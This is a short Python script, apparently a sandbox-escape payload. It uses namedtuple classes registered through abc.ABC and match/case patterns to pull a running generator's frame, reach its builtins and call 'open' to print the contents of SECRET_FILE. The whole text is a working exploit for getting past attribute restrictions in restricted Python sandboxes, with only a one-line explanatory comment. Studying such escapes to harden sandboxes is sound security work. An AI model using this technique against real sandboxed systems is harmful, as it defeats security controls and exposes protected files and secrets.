# A named tuple with the word of a generator's frame as its field reads the frame of a running generator.
from abc import ABC
from collections import namedtuple

def pattern(word, kind):
    class Pattern(namedtuple("P", [word]), ABC):
        pass
    Pattern.register(kind)
    return Pattern

import heapq

numbers = heapq.merge([1], [2])
Frame = pattern("gi_frame", type(numbers))
match numbers:
    case Frame(frame):
        pass
Names = pattern("f_builtins", type(frame))
match frame:
    case Names(names):
        print(names["open"](SECRET_FILE).read())
